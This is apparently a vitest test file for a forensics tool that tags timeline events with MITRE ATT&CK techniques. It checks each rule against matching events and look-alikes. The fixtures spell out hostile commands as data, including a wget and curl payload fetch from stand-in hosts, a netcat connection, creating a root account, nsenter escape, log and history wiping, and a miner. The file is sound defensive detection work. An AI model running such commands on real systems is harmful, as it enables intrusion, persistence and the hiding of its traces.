// The ATT&CK mapping table: every rule matches what it claims and leaves the look-alike alone.
import { describe, expect, it } from 'vitest';
import {
  applyAttackRules,
  ATTACK_RULES,
  DropperChain,
  modeBits,
  RULES_ATTRIBUTE,
} from '../../src/forensics/common/attack-mapping.js';
import { attackTechniqueName } from '../../src/forensics/common/attack-techniques.js';
import { makeEvent, type AttributeValue } from '../../src/forensics/common/timeline-event.js';
import type { TimelineEvent, TimelineSource } from '../../src/forensics/common/timeline-model.js';

let clock = 0;
function event(
  source: TimelineSource,
  kind: string,
  subject: TimelineEvent['subject'] = {},
  attributes: Record<string, AttributeValue> = {},
): TimelineEvent {
  clock++;
  return makeEvent({
    time: { tns: String(1_000_000_000 + clock), at: `2026-11-23T01:00:00.${String(clock).padStart(9, '0')}Z` },
    source,
    kind,
    subject,
    summary: kind,
    attributes,
    confidence: 'exact',
    evidence: { itemId: 'item', sha256: 's', locator: `seq ${clock}` },
  });
}

const exec = (process: string, exe = `/usr/bin/${process.split(' ')[0] ?? ''}`, source: TimelineSource = 'syscall') =>
  event(source, 'process.exec', { process }, { exe });
const file = (
  kind: string,
  path: string,
  attributes: Record<string, AttributeValue> = {},
  source: TimelineSource = 'syscall',
) => event(source, kind, { path }, attributes);

/** For each rule: events it must match, and look-alikes it must not. */
const CASES: Record<string, { positive: TimelineEvent[]; negative: TimelineEvent[] }> = {
  'shell-exec': {
    positive: [
      exec('sh -c echo shell-spawned', '/proc/self/exe'),
      exec('bash -i', '/bin/bash'),
      exec('busybox sh', '/bin/busybox'),
    ],
    negative: [exec('shellcheck x.sh'), file('file.write', '/bin/sh')],
  },
  'container-admin-tool': {
    positive: [exec('docker -H unix:///var/run/docker.sock ps'), exec('kubectl get secrets -A')],
    negative: [exec('dockerd-rootless.sh'), exec('cat /etc/docker/daemon.json', '/bin/cat')],
  },
  'engine-exec': {
    positive: [event('engine', 'container.exec_start', { process: 'sh -c id' })],
    negative: [event('engine', 'container.start'), event('syscall', 'container.exec_start')],
  },
  'kubernetes-exec': {
    positive: [event('kubernetes-audit', 'k8s.audit.create', {}, { subresource: 'exec' })],
    negative: [event('kubernetes-audit', 'k8s.audit.get', {}, { subresource: 'log' })],
  },
  'kubernetes-privileged-pod': {
    positive: [event('kubernetes-audit', 'k8s.audit.create', {}, { resource: 'pods', subresource: '', hostPID: true })],
    negative: [event('kubernetes-audit', 'k8s.audit.create', {}, { resource: 'pods', subresource: '' })],
  },
  nsenter: {
    positive: [exec('nsenter -t 1 -m -u -i -n -p sh')],
    negative: [exec('enter-the-dragon')],
  },
  'mount-host-device': {
    positive: [exec('mount /dev/sda1 /mnt'), exec('mount /dev/nvme0n1p1 /host')],
    negative: [exec('mount -t tmpfs none /mnt'), exec('mount')],
  },
  'runtime-socket': {
    positive: [
      event('syscall', 'network.connect', { address: '/var/run/docker.sock' }),
      exec('curl --unix-socket /run/containerd/containerd.sock http://x/v1'),
    ],
    negative: [
      event('syscall', 'network.connect', { address: '/var/run/nscd/socket' }),
      exec('docker-socket-proxy --help', '/bin/proxy'),
    ],
  },
  'proc1-root': {
    positive: [file('file.write', '/proc/1/root/etc/crontab'), exec('chroot /proc/1/root sh', '/usr/sbin/chroot')],
    negative: [file('file.write', '/proc/11/root/x'), file('file.write', '/proc/self/root/x')],
  },
  cron: {
    positive: [
      file('file.write', '/etc/cron.d/backdoor'),
      file('file.added', '/var/spool/cron/crontabs/root', {}, 'filesystem'),
      exec('crontab /tmp/c'),
    ],
    negative: [file('file.write', '/etc/cronic.conf'), exec('crontab -l')],
  },
  'account-files': {
    positive: [
      file('file.write', '/etc/passwd'),
      file('file.modified', '/etc/shadow', {}, 'filesystem'),
      file('file.write', '/etc/sudoers.d/evil'),
      exec('usermod -aG sudo evil'),
    ],
    negative: [
      file('file.unlink', '/etc/passwd-'),
      file('file.write', '/etc/passwd.bak'),
      event('custody', 'file.write', { path: '/etc/passwd' }),
    ],
  },
  'create-account': {
    positive: [exec('useradd -o -u 0 evil'), exec('adduser -D evil', '/proc/self/exe')],
    negative: [exec('id evil')],
  },
  'ssh-authorized-keys': {
    positive: [
      file('file.write', '/root/.ssh/authorized_keys'),
      file('file.added', '/home/app/.ssh/authorized_keys2', {}, 'filesystem'),
    ],
    negative: [file('file.write', '/root/.ssh/known_hosts')],
  },
  miner: {
    positive: [
      exec('./xmrig -o pool:3333', '/tmp/.x/xmrig'),
      exec('./kworker -o stratum+tcp://pool.example:3333', '/tmp/kworker'),
      file('file.added', '/tmp/minerd', {}, 'filesystem'),
    ],
    negative: [exec('make -j4'), file('file.added', '/tmp/notes.txt', {}, 'filesystem')],
  },
  'download-tool': {
    positive: [
      exec('wget -q -O /tmp/p http://203.0.113.7/p', '/proc/self/exe'),
      exec('curl -fsSL https://evil.example/x.sh'),
      exec('nc 127.0.0.1 4444'),
    ],
    negative: [exec('curl --version'), exec('nc -h'), exec('wget')],
  },
  'history-cleared': {
    positive: [
      file('file.unlink', '/root/.ash_history'),
      file('file.write', '/home/a/.bash_history', { flags: 'O_WRONLY|O_TRUNC' }),
      exec('bash -c history -c', '/bin/bash'),
      file('file.deleted', '/root/.bash_history', {}, 'filesystem'),
    ],
    negative: [
      file('file.write', '/root/.bash_history', { flags: 'O_WRONLY|O_APPEND' }),
      file('file.unlink', '/root/.bash_profile'),
    ],
  },
  'logs-cleared': {
    positive: [
      file('file.unlink', '/var/log/auth.log'),
      file('file.truncate', '/var/log/wtmp'),
      file('file.deleted', '/var/log/syslog', {}, 'filesystem'),
    ],
    negative: [
      file('file.write', '/var/log/app.log', { flags: 'O_WRONLY|O_APPEND' }),
      file('file.unlink', '/var/lib/log'),
    ],
  },
  timestomp: {
    positive: [event('syscall', 'file.utime', { path: '/usr/bin/x', process: 'touch -r /bin/ls /usr/bin/x' })],
    negative: [event('syscall', 'file.utime', { path: '/tmp/new', process: 'touch /tmp/new' })],
  },
  'setuid-chmod': {
    positive: [
      file('file.chmod', '/tmp/sh', { mode: '04755' }),
      file('file.chmod', '/tmp/sh', { mode: 'S_ISUID|0755' }),
    ],
    negative: [file('file.chmod', '/tmp/sh', { mode: '0755' })],
  },
};

describe('ATT&CK rules', () => {
  it('given the rules table, then every rule has test cases here and a technique named in ATT&CK v16.1', () => {
    expect(Object.keys(CASES).sort()).toEqual(ATTACK_RULES.map((rule) => rule.id).sort());
    for (const rule of ATTACK_RULES) {
      expect(attackTechniqueName(rule.technique), rule.id).toBeDefined();
      expect(rule.rationale.length, rule.id).toBeGreaterThan(10);
    }
  });

  for (const rule of ATTACK_RULES) {
    it(`given ${rule.id}, then it tags what it describes with ${rule.technique} and leaves look-alikes alone`, () => {
      const cases = CASES[rule.id] ?? { positive: [], negative: [] };
      for (const positive of cases.positive) {
        const tagged = applyAttackRules(positive);
        expect(tagged.techniques, `${rule.id} on ${positive.kind} ${JSON.stringify(positive.subject)}`).toContain(
          rule.technique,
        );
        expect(String(tagged.attributes[RULES_ATTRIBUTE])).toContain(rule.id);
      }
      for (const negative of cases.negative) {
        const tagged = applyAttackRules(negative);
        expect(
          String(tagged.attributes[RULES_ATTRIBUTE] ?? ''),
          `${rule.id} on ${negative.kind} ${JSON.stringify(negative.subject)}`,
        ).not.toContain(rule.id);
      }
    });
  }

  it('given a mode as strace prints it or as a number, then its permission bits are read', () => {
    expect(modeBits('0755')).toBe(0o755);
    expect(modeBits('S_ISUID|S_IRWXU')).toBe(0o4700);
    expect(modeBits('S_ISUID|S_IXUSR|0644')).toBe(0o4744);
    expect(modeBits(0o600)).toBe(0o600);
    expect(modeBits('rwx')).toBeUndefined();
  });
});

describe('the dropper chain (T1105)', () => {
  it('given a file written, made executable and run, in that order, then the chmod and the exec are tagged', () => {
    const chain = new DropperChain();
    const steps = [
      file('file.write', '/tmp/dropper.sh', { flags: 'O_WRONLY|O_CREAT|O_TRUNC' }),
      file('file.chmod', '/tmp/dropper.sh', { mode: '0755' }),
      exec('/tmp/dropper.sh', '/tmp/dropper.sh'),
    ].map((step) => chain.apply(step));
    expect(steps.map((step) => step.techniques)).toEqual([[], ['T1105'], ['T1105']]);
  });

  it('given the same steps out of order (run before written), then nothing is tagged', () => {
    const chain = new DropperChain();
    const steps = [
      exec('/tmp/tool', '/tmp/tool'),
      file('file.chmod', '/tmp/tool', { mode: '0755' }),
      file('file.write', '/tmp/tool'),
    ].map((step) => chain.apply(step));
    expect(steps.map((step) => step.techniques)).toEqual([[], [], []]);
  });

  it('given a file the diff saw added with an execute bit, then a later exec of it is tagged', () => {
    const chain = new DropperChain();
    chain.apply(file('file.added', '/tmp/x', { mode: '0755' }, 'filesystem'));
    expect(chain.apply(exec('/tmp/x', '/tmp/x')).techniques).toEqual(['T1105']);
    expect(chain.apply(exec('/tmp/y', '/tmp/y')).techniques).toEqual([]);
  });
});
